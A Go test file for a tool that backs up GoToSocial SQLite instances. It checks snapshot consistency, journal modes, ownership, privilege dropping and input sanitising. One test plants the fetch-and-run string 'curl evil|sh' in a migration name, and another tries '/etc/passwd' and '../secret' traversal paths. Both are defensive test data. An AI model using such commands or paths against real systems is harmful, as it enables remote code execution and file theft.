package instance_test

import (
	"context"
	"errors"
	"io"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"holdfast/instance"
	"holdfast/manifest"
)

func TestViewIsOneMomentWhileTheServerWrites(t *testing.T) {
	dir := small(t, "WAL")
	i := openInstance(t, dir, instance.Options{})
	s := startServer(t, filepath.Join(dir, "sqlite.db"))
	s.commits()
	start := time.Now()
	var first, last int64
	for range 5 {
		v := begin(t, i)
		db := stored(t, readDatabase(t, v, s.commits))
		if err := v.Close(); err != nil {
			t.Fatal(err)
		}
		debit, credit := query[int64](t, db, "SELECT count(*) FROM debit"), query[int64](t, db, "SELECT count(*) FROM credit")
		balance := query[int64](t, db, "SELECT n FROM balance")
		if debit != credit || debit != balance || debit <= last {
			t.Errorf("debit %d, credit %d, balance %d, after %d: not one moment", debit, credit, balance, last)
		}
		if first == 0 {
			first = debit
		}
		last = debit
	}
	t.Logf("the server made %.0f commits a second", float64(last-first)/time.Since(start).Seconds())
}

func TestReadingChangesNoByteOfDatabaseOrLog(t *testing.T) {
	dir := small(t, "WAL")
	db := filepath.Join(dir, "sqlite.db")
	s := startServer(t, db)
	for range 10 {
		s.commits()
	}
	s.kill()
	before := hashes(t, db, db+"-wal")
	for range 2 { // the second finds what the first left
		v := begin(t, openInstance(t, dir, instance.Options{}))
		copied := stored(t, readDatabase(t, v, nil))
		if n := query[int64](t, copied, "SELECT count(*) FROM credit"); n < 500 {
			t.Errorf("%d of at least 500 commits read: the log was not", n)
		}
		for _, err := range v.Media(t.Context()) {
			if err != nil {
				t.Fatal(err)
			}
		}
		if err := v.Close(); err != nil {
			t.Fatal(err)
		}
		if after := hashes(t, db, db+"-wal"); after != before {
			t.Errorf("before\n%safter\n%s", before, after)
		}
	}
}

func TestViewReadsEveryJournalMode(t *testing.T) {
	for _, mode := range []string{"WAL", "DELETE", "TRUNCATE"} {
		t.Run(mode, func(t *testing.T) {
			dir := small(t, mode)
			want, err := os.ReadFile(filepath.Join(dir, "sqlite.db"))
			if err != nil {
				t.Fatal(err)
			}
			v := begin(t, openInstance(t, dir, instance.Options{}))
			if got := readDatabase(t, v, nil); !slices.Equal(got, want) {
				t.Error("a stopped server's pages differ from its file")
			}
			f := v.Database()[0]
			if f.Path != "sqlite.db" || f.PageSize != 4096 || f.Size != int64(len(want)) || f.Part != manifest.Database || f.Modified.IsZero() {
				t.Errorf("%+v", f)
			}
		})
	}
}

func TestFactsTellTheInstance(t *testing.T) {
	dir := small(t, "WAL")
	write(t, dir, "gotosocial", "#!/bin/sh\necho gotosocial version 0.20.0-rc1 '(57cb4fe)'\n")
	binary := filepath.Join(dir, "gotosocial")
	if err := os.Chmod(binary, 0o755); err != nil {
		t.Fatal(err)
	}
	belongToNobody(t, dir)
	i := openInstance(t, dir, instance.Options{Binary: binary})
	want := manifest.Facts{Engine: "sqlite", GoToSocial: "0.20.0-rc1", Migration: "20250715095446", Accounts: 2, Statuses: 2}
	if got := begin(t, i).Facts(); got != want {
		t.Errorf("%+v, want %+v", got, want)
	}
	if i.Domain() != "social.example.org" {
		t.Error(i.Domain())
	}
}

// belongToNobody gives the database to a user that isn't root, as on a server.
func belongToNobody(t *testing.T, dir string) {
	t.Helper()
	if os.Geteuid() != 0 {
		return
	}
	for _, err := range []error{os.Chmod(filepath.Dir(dir), 0o755), os.Chmod(dir, 0o755), os.Chown(filepath.Join(dir, "sqlite.db"), 65534, 65534)} {
		if err != nil {
			t.Fatal(err)
		}
	}
}

func TestRootRunsTheServersBinaryAsTheDatabasesOwnerOrNotAtAll(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root")
	}
	dir := small(t, "WAL")
	write(t, dir, "gotosocial", "#!/bin/sh\necho version 1.2.$(id -u)\n")
	binary := filepath.Join(dir, "gotosocial")
	if err := os.Chmod(binary, 0o755); err != nil {
		t.Fatal(err)
	}
	i := openInstance(t, dir, instance.Options{Binary: binary})
	if got := i.Version(t.Context()); got != "" {
		t.Errorf("a database of root's: ran as %s", got)
	}
	write(t, dir, "gotosocial", "#!/bin/sh\necho version 1.2.$(id -u)\n")
	belongToNobody(t, dir)
	if got := i.Version(t.Context()); got != "1.2.65534" {
		t.Errorf("ran as %q", got)
	}
}

func TestFactsHoldNoControlCharacters(t *testing.T) {
	dir := small(t, "WAL")
	db := openSQL(t, filepath.Join(dir, "sqlite.db"))
	if _, err := db.Exec("INSERT INTO bun_migrations (id, name) VALUES (999999, 'x' || char(10) || 'curl evil|sh' || char(27))"); err != nil {
		t.Fatal(err)
	}
	if got := begin(t, openInstance(t, dir, instance.Options{})).Facts().Migration; got != "xcurl evil|sh" {
		t.Errorf("%q", got)
	}
}

func TestMediaAreLocalOnly(t *testing.T) {
	i := openInstance(t, small(t, "WAL"), instance.Options{})
	if got := media(t, begin(t, i)); !slices.Equal(got, localMedia) {
		t.Errorf("%q", got)
	}
	named, err := i.Named(t.Context(), []string{localMedia[0], "gone", "01D/attachment/original/01O.png"})
	if err != nil || len(named) != 1 || !named[localMedia[0]] {
		t.Errorf("named %v, %v", named, err)
	}
}

func TestMediaEqualWhatGoToSocialLists(t *testing.T) {
	dir := fixture(t)
	sums, err := os.ReadFile(fixtures + "/expected/sqlite/local_media.sha256")
	if err != nil {
		t.Fatal(err)
	}
	var want []string
	for line := range strings.Lines(string(sums)) {
		_, name, _ := strings.Cut(strings.TrimSpace(line), "  storage/")
		want = append(want, name)
	}
	slices.Sort(want)
	i := openInstance(t, dir, instance.Options{})
	v := begin(t, i)
	got := media(t, v)
	if !slices.Equal(got, want) {
		t.Errorf("%d keys, want %d", len(got), len(want))
	}
	for _, key := range got {
		if _, err := i.Stat(t.Context(), manifest.Media, key); err != nil {
			t.Error(err)
		}
	}
	if f := v.Facts(); f.Migration != "20250715095446" || f.Accounts != 3 || f.Statuses < 200 {
		t.Errorf("%+v", f)
	}
}

func media(t *testing.T, v *instance.View) (keys []string) {
	t.Helper()
	for key, err := range v.Media(t.Context()) {
		if err != nil {
			t.Fatal(err)
		}
		keys = append(keys, key)
	}
	return keys
}

// fixture is a copy of the recorded instance.
func fixture(t *testing.T) string {
	t.Helper()
	if _, err := os.Stat(fixtures); err != nil {
		t.Skip("no recorded instance here")
	}
	dir := t.TempDir()
	if err := os.CopyFS(dir, os.DirFS(fixtures+"/sqlite")); err != nil {
		t.Fatal(err)
	}
	return dir
}

func TestStrangeDatabasesAreRefusedWithTheFix(t *testing.T) {
	for name, c := range map[string]struct{ setup, want string }{
		"noise":           {"noise", "no SQLite database"},
		"other programme": {"DROP TABLE media_attachments", "not GoToSocial's: it has no table media_attachments"},
	} {
		t.Run(name, func(t *testing.T) {
			dir := small(t, "DELETE")
			path := filepath.Join(dir, "sqlite.db")
			if c.setup == "noise" {
				write(t, dir, "sqlite.db", strings.Repeat("encrypted ", 1000))
			} else if _, err := openSQL(t, path).Exec(c.setup); err != nil {
				t.Fatal(err)
			}
			_, err := openInstance(t, dir, instance.Options{}).Begin(t.Context())
			var p *instance.Problem
			if !errors.As(err, &p) || p.Fix == "" || !strings.Contains(err.Error(), c.want) {
				t.Errorf("%v", err)
			}
		})
	}
}

func TestCancelEndsTheReading(t *testing.T) {
	v := begin(t, openInstance(t, small(t, "WAL"), instance.Options{}))
	ctx, cancel := context.WithCancel(t.Context())
	r, err := v.OpenDatabase(ctx, "sqlite.db")
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	if _, err := io.CopyN(io.Discard, r, 4096); err != nil {
		t.Fatal(err)
	}
	cancel()
	if _, err := io.Copy(io.Discard, r); !errors.Is(err, context.Canceled) {
		t.Errorf("%v", err)
	}
}

func TestMediaStayInTheirDirectory(t *testing.T) {
	dir := small(t, "WAL")
	write(t, dir, "secret", "secret")
	if err := os.Symlink("../secret", filepath.Join(dir, "storage/link")); err != nil {
		t.Fatal(err)
	}
	i := openInstance(t, dir, instance.Options{})
	for _, path := range []string{"link", "../secret", "/etc/passwd", "01B", ""} {
		if f, err := i.Open(t.Context(), manifest.Media, path); err == nil {
			f.Close()
			t.Errorf("%q was opened", path)
		}
	}
	if _, err := i.Open(t.Context(), manifest.Media, "01B/gone"); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("%v", err)
	}
	f, err := i.Open(t.Context(), manifest.Media, localMedia[0])
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if b, _ := io.ReadAll(f); string(b) != "bytes of "+localMedia[0] {
		t.Errorf("%q", b)
	}
}

const nobody = 65534

func TestAnotherUserIsRefusedAndLeavesNothing(t *testing.T) {
	dir, reader := public(t)
	before := entries(t, dir)
	out := reader()
	if !strings.Contains(out, "refused: ") || !strings.Contains(out, "fix: run Holdfast as that user: sudo -u root holdfast") {
		t.Errorf("%s", out)
	}
	if after := entries(t, dir); !slices.Equal(after, before) {
		t.Errorf("left behind: %v, before %v", after, before)
	}
}

func TestAnotherUserReadsBesideTheServer(t *testing.T) {
	dir, reader := public(t)
	s := startServer(t, filepath.Join(dir, "sqlite.db"))
	s.commits()
	if out := reader(); !strings.Contains(out, "read ") {
		t.Errorf("%s", out)
	}
}

func TestFilesMadeByRootBelongToTheServer(t *testing.T) {
	dir, _ := public(t)
	for _, name := range []string{"", "sqlite.db"} {
		if err := os.Chown(filepath.Join(dir, name), nobody, nobody); err != nil {
			t.Fatal(err)
		}
	}
	v := begin(t, openInstance(t, dir, instance.Options{}))
	readDatabase(t, v, nil)
	v.Close()
	for _, name := range entries(t, dir) {
		if !strings.HasPrefix(name, "sqlite.db") {
			continue
		}
		info, err := os.Stat(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		if s := info.Sys().(*syscall.Stat_t); s.Uid != nobody || s.Gid != nobody {
			t.Errorf("%s belongs to %d:%d", name, s.Uid, s.Gid)
		}
	}
}

// public is a WAL instance in a folder that everybody may write to, and a
// reader that runs as nobody.
func public(t *testing.T) (dir string, reader func() string) {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("needs root")
	}
	dir = small(t, "WAL")
	binary := filepath.Join(t.TempDir(), "reader")
	self, err := os.ReadFile(os.Args[0])
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(binary, self, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, d := range []string{dir, filepath.Dir(dir), filepath.Dir(binary)} {
		if err := os.Chmod(d, 0o777); err != nil {
			t.Fatal(err)
		}
	}
	return dir, func() string {
		cmd := exec.Command(binary, filepath.Join(dir, "config.yaml"))
		cmd.Dir, cmd.Env = dir, append(os.Environ(), "HOLDFAST_TEST_ROLE=reader")
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: nobody, Gid: nobody}}
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Errorf("reader: %v", err)
		}
		return string(out)
	}
}
